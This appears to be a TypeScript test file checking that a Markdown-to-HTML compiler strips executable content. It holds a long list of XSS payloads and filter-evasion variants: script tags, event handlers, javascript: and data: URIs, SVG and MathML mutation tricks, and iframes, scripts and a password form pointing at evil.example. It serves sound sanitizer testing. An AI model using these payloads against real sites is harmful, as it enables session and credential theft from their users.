import { describe, expect, it, vi } from 'vitest';
import { compile, roundTrip, rulesOf } from './compile.ts';
import { dangersIn } from './dangers.ts';

vi.setConfig({ testTimeout: 60_000 });

/** What must raise `unsafe-html-removed`, because something that runs or loads was taken out. */
const removed: readonly string[] = [
  '<script>steal()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<script\n>steal()</script\n>',
  '<script>steal()',
  '<<script>steal()//<</script>',
  'Text <script>steal()</script> text',
  '<img src=x onerror=steal()>',
  '<img src=x OnErRoR="steal()">',
  '<img src="x" onerror="&#115;teal()">',
  '<img """><script>steal()</script>">',
  '<img src="javascript:steal()">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<b onclick=steal()>bold</b>',
  '<b onmouseover="steal()" tabindex=1>bold</b>',
  '<p onfocus=steal() autofocus>text</p>',
  '<details open ontoggle=steal()><summary>s</summary>t</details>',
  '<a href="javascript:steal()">x</a>',
  '<a href="JaVaScRiPt:steal()">x</a>',
  '<a href="  javascript:steal()">x</a>',
  '<a href="java\nscript:steal()">x</a>',
  '<a href="java&#9;script:steal()">x</a>',
  '<a href="&#106;&#97;vascript:steal()">x</a>',
  '<a href="javascript&colon;steal()">x</a>',
  '<a href="&#1;javascript:steal()">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="blob:https://example.org/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:https://example.org">x</a>',
  '<a href="content:articles/secret.md">x</a>',
  '[x](javascript:steal())',
  '[x](JAVASCRIPT:steal())',
  '[x](javascript&colon;steal())',
  '[x](<javascript:steal()>)',
  '[x]\n\n[x]: javascript:steal()',
  '![x](javascript:steal())',
  '![x](data:image/svg+xml,<svg/onload=steal()>)',
  '<javascript:steal()>',
  '<data:text/html;base64,PHNjcmlwdD4=>',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](content:articles/secret.md)',
  '<svg onload=steal()>',
  '<svg><script>steal()</script></svg>',
  '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
  '<svg><animate onbegin=steal() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:steal() /></svg>',
  '<svg><foreignObject><iframe src=javascript:steal()></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=steal()>#x"/></svg>',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<math><mi xlink:href="javascript:steal()">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><script>steal()</script></annotation-xml></math>',
  '<iframe src="javascript:steal()"></iframe>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<IFRAME SRC="https://evil.example/" onload=steal()></IFRAME>',
  '<object data="javascript:steal()"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
  '<embed src="javascript:steal()">',
  '<embed src="https://evil.example/x.swf" allowscriptaccess=always>',
  '<applet code=x.class></applet>',
  '<video src=x onerror=steal()></video>',
  '<video><source onerror="steal()"></video>',
  '<audio src=x oncanplay=steal()></audio>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:steal()">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=import href=data:text/html,x>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(javascript:steal())}</style>',
  '<form action="https://evil.example/"><input name=password></form>',
  '<form><button formaction=javascript:steal()>x</button></form>',
  '<input type=image src=x onerror=steal()>',
  '<input type=text autofocus onfocus=steal()>',
  '<input type=checkbox>',
  '<textarea autofocus onfocus=steal()></textarea>',
  '<select onfocus=steal() autofocus><option>x</option></select>',
  '<button onclick=steal()>x</button>',
  '<isindex action=javascript:steal() type=image>',
  '<keygen autofocus onfocus=steal()>',
  '<body onload=steal()><p onclick=steal()>x</p>',
  '<marquee onstart=steal()>x</marquee>',
  '<template><script>steal()</script></template>',
  '<noembed><script>steal()</script></noembed>',
  '<title><img src=x onerror=steal()></title>',
  '<xmp><script>steal()</script></xmp>',
  '<plaintext><script>steal()</script>',
  '<map name=m><area href=javascript:steal()></map>',
  '<dialog open onclose=steal()>x</dialog>',
  '<canvas id=c></canvas>',
  '<table background="javascript:steal()"><tr><td onclick=steal()>x</td></tr></table>',
  '<!--[if gte IE 4]><script>steal()</script><![endif]--><script>steal()</script>',
  '<!-- > --><img src=x onerror=steal()>',
  '<!--><img src=x onerror=steal()>-->',
  '<? <img src=x onerror=steal()> ?><img src=x onerror=steal()>',
  '<![CDATA[<img src=x onerror=steal()>]]><img src=x onerror=steal()>',
  '</p><img src=x onerror=steal()><p>',
  '> <img src=x onerror=steal()>',
  '- <img src=x onerror=steal()>',
  '| a |\n|---|\n| <img src=x onerror=steal()> |',
  '# <img src=x onerror=steal()>',
  'note[^1]\n\n[^1]: <img src=x onerror=steal()>',
];

/** What falls away without a word, or was never more than text. */
const harmless: readonly string[] = [
  '<img src=x onerror\n=\nsteal()>',
  '<img/src=x/onerror=steal()>',
  '[x](java&Tab;script:steal())',
  '<frameset onload=steal()><frame src=x></frameset>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<div style="background:url(javascript:steal())">x</div>',
  '<span style="width:expression(steal())">x</span>',
  '<p style="position:fixed;inset:0">x</p>',
  '<a href="https://example.org/" target=_blank ping=https://evil.example/>x</a>',
  '<a href="https://example.org/" download style=color:red class=button>x</a>',
  '<img src=x.jpg alt=x srcset="https://evil.example/x.jpg 2x" sizes=100vw>',
  '<img src=x.jpg alt=x lowsrc=javascript:steal() dynsrc=javascript:steal()>',
  '<img src=x.jpg alt=x usemap=#m longdesc=javascript:steal() crossorigin>',
  '<blockquote cite="javascript:steal()">x</blockquote>',
  '<q cite=javascript:steal()>x</q>',
  '<div id=content name=cookie class="byline related">x</div>',
  '<p id=__proto__>x</p>',
  '<a id=location href=#x>x</a>',
  '<p is=x-steal data-x=1 slot=x part=x nonce=x>x</p>',
  '<p contenteditable accesskey=s draggable=true itemprop=name>x</p>',
  '<table><caption>c</caption><tr><td bgcolor=red width=1 align=justify>x</td></tr></table>',
  '<font color=red face=x>x</font><center>x</center>',
  '<div><p.](>\n\nx',
  '`<script>steal()</script>`',
  '    <script>steal()</script>',
  '```html\n<script>steal()</script>\n```',
  '\\<script>steal()\\</script>',
  '&lt;script&gt;steal()&lt;/script&gt;',
  '<a title="><script>steal()</script>">x</a>',
  '[x](https://example.org/"onclick="steal())',
  '[x](https://example.org/ "\\"onclick=steal()")',
  '![" onerror="steal()](x.jpg)',
  '```js" onclick="steal()\ncode\n```',
  '<code class="language-js\' onclick=steal() lang">x</code>',
];

describe('HTML in copy', () => {
  it.each([...removed, ...harmless])('leaves nothing that runs of %j', (copy) => {
    const { html } = compile(copy);
    expect(dangersIn(html)).toEqual([]);
    expect(roundTrip(html)).toBe(html);
  });

  it.each(removed)('says that it took something out of %j', (copy) => {
    expect(rulesOf(compile(copy))).toContain('unsafe-html-removed');
  });

  it.each(harmless)('says nothing of the dress and the text in %j', (copy) => {
    expect(rulesOf(compile(copy))).not.toContain('unsafe-html-removed');
  });

  it('stays safe when all of it stands in one body', () => {
    const { html } = compile([...removed, ...harmless].join('\n\n'));
    expect(dangersIn(html)).toEqual([]);
  });

  it('stays safe inside quotes, lists, tables and emphasis', () => {
    for (const copy of removed.filter((one) => !one.includes('\n'))) {
      for (const around of [
        `> ${copy}`,
        `1. ${copy}`,
        `*a ${copy} b*`,
        `a | b\n--|--\n${copy} | c`,
        `<div>\n\n${copy}\n\n</div>`,
      ]) {
        expect(dangersIn(compile(around).html)).toEqual([]);
      }
    }
  });
});
